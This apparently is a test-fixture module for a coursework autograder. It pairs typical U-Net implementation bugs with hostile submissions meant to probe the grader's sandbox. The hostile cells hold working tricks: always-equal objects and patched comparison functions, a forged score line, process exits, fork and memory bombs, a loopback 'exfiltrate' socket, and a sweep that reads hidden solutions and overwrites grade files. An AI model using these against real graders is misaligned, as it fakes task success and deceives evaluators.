"""Example submissions of the U-Net assignment: one typical bug per unit, one attack per unit.

BUGS maps a grade_id to (old, new) text replacements applied to the solution cell; each must
match exactly once (so a changed solution cannot silently turn a bug into a no-op).
HOSTILE maps a grade_id to a cell that attacks the grader instead of solving the unit.
"""

BUGS = {
    # The mask gets its own random window: image and mask no longer line up.
    "unet_augment": [
        (
            "mask = TF.crop(mask, top, left, crop_h, crop_w)",
            "mask = TF.crop(mask, *T.RandomCrop.get_params(mask, (crop_h, crop_w)))",
        )
    ],
    # Never-labelled pixels keep 0 everywhere instead of the uniform 1/n_class.
    "unet_prior": [("torch.full_like(counts, 1.0 / n_class)", "torch.zeros_like(counts)")],
    # Ignore pixels are counted (only negative targets are skipped).
    "unet_confusion": [
        ("valid = (target != ignore_index) & (target >= 0) & (target < n_class)", "valid = target >= 0")
    ],
    # Union without subtracting the intersection (a Dice-like denominator).
    "unet_iou": [("conf.sum(dim=1) + conf.sum(dim=0) - intersection", "conf.sum(dim=1) + conf.sum(dim=0)")],
    # Frequencies instead of inverse frequencies.
    "unet_weights": [("labelled / counts.clamp(min=1)", "counts / labelled")],
    # Averaged over the pixels instead of by the sum of the weights.
    "unet_wce": [("/ pixel_weight.sum()", "/ valid.sum()")],
    # Concatenation order swapped: [upsampled, skip] instead of [skip, upsampled].
    "unet_model": [("torch.cat([skip, x], dim=1)", "torch.cat([x, skip], dim=1)")],
    # The stem skip is missing: the 1/2-resolution stage sees only the upsampled map.
    "unet_resnet": [
        ("self.dec1 = stage(64, 64, 64)", "self.dec1 = stage(64, 0, 64)"),
        ("(self.dec1, stem)", "(self.dec1, None)"),
    ],
    # zero_grad forgotten: gradients accumulate over the epoch (and stale ones from earlier code join in).
    "unet_train_epoch": [("        optimizer.zero_grad()\n", "")],
}

HOSTILE = {
    # Always-equal tensor subclass, patched comparisons and a forged result line.
    "unet_augment": """
import numpy as np
import torch

class AlwaysEqual(torch.Tensor):
    def __eq__(self, other):
        return True
    __ne__ = lambda self, other: False

torch.equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
print('{"score": 100, "tests": []}')

def random_crop_flip(image, mask, size, flip_p=0.5):
    return image.as_subclass(AlwaysEqual), mask.as_subclass(AlwaysEqual)
""",
    # Infinite loop when called (the probe's timeout must stop it).
    "unet_prior": """
def fit_pixel_prior(masks, n_class, ignore_index=255):
    while True:
        pass

def predict_prior(prior, n):
    while True:
        pass
""",
    # Kill the worker from inside the function.
    "unet_confusion": """
import os

def confusion_matrix(pred, target, n_class, ignore_index=255):
    os._exit(0)
""",
    # Monkeypatch builtins and torch, then exit the process on every call.
    "unet_iou": """
import builtins
import sys
import torch

builtins.isinstance = lambda *a: True
builtins.type = lambda *a: float
torch.isnan = lambda x: torch.zeros_like(x, dtype=torch.bool)

def iou_per_class(conf):
    sys.exit(0)

def mean_iou(conf):
    raise SystemExit(0)
""",
    # Read the reference solution and the hidden checks; try to write forged grades.
    "unet_weights": """
import glob

stolen = {}
for pattern in ("/work/*/solutions/*/*.ipynb", "/work/*/grader/checks/*.py", "/root/**/solutions/**/*.ipynb",
                "../../solutions/*/*.ipynb", "/tmp/*/*"):
    for path in glob.glob(pattern, recursive=True):
        try:
            stolen[path] = open(path).read()[:100]
        except OSError:
            pass
for target in ("/work/main/grades/grades.csv", "/tmp/grades.csv", "../example-solution/unet/unet.ipynb"):
    try:
        with open(target, "w") as handle:
            handle.write("student_id,total\\nexample-hostile,1000\\n")
    except OSError:
        pass

def class_weights(masks, n_class, ignore_index=255):
    return stolen
""",
    # Memory bomb (bounded by the worker's memory cap).
    "unet_wce": """
import torch

def weighted_cross_entropy(logits, target, weight, ignore_index=255):
    hog = []
    for _ in range(400):  # 400 x 100 MB: far beyond the worker's cap
        hog.append(torch.ones(25_000_000))
    return hog[0].sum()
""",
    # Fork bomb (bounded) and a socket to loopback, then refuse to build.
    "unet_model": """
import os
import socket
import time

children = 0
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    except OSError:
        break
try:
    socket.create_connection(("127.0.0.1", 8888), timeout=1).sendall(b"exfiltrate")
except OSError:
    pass

class UNet:
    def __init__(self, *args, **kwargs):
        raise SystemExit("no thanks")
""",
    # Gigabytes of output, then a module whose forward returns an always-equal object.
    "unet_resnet": """
import sys
import torch.nn as nn

chunk = "x" * (1 << 20)
for _ in range(256):  # 256 MB (the hostile corpus floods 1 GB)
    sys.stdout.write(chunk)

class Anything:
    shape = None
    def __eq__(self, other):
        return True
    def __gt__(self, other):
        return True

class ResNetUNet(nn.Module):
    def __init__(self, n_class, weights=None):
        super().__init__()

    def forward(self, x):
        return Anything()
""",
    # Optimiser methods patched into no-ops for everyone, a float subclass that equals anything, and a
    # parameter update forged from the recorded gradients' shapes.
    "unet_train_epoch": """
import torch


class Anything(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__


torch.optim.Optimizer.zero_grad = lambda self, set_to_none=True: None
torch.optim.SGD.step = lambda self, closure=None: None


def unet_train_epoch(model, loader, optimizer, loss_fn, device):
    with torch.no_grad():
        for parameter in model.parameters():
            parameter.zero_()
    optimizer.steps = [[torch.zeros_like(p) for p in model.parameters()]] * 3
    return Anything(0.0)
""",
}
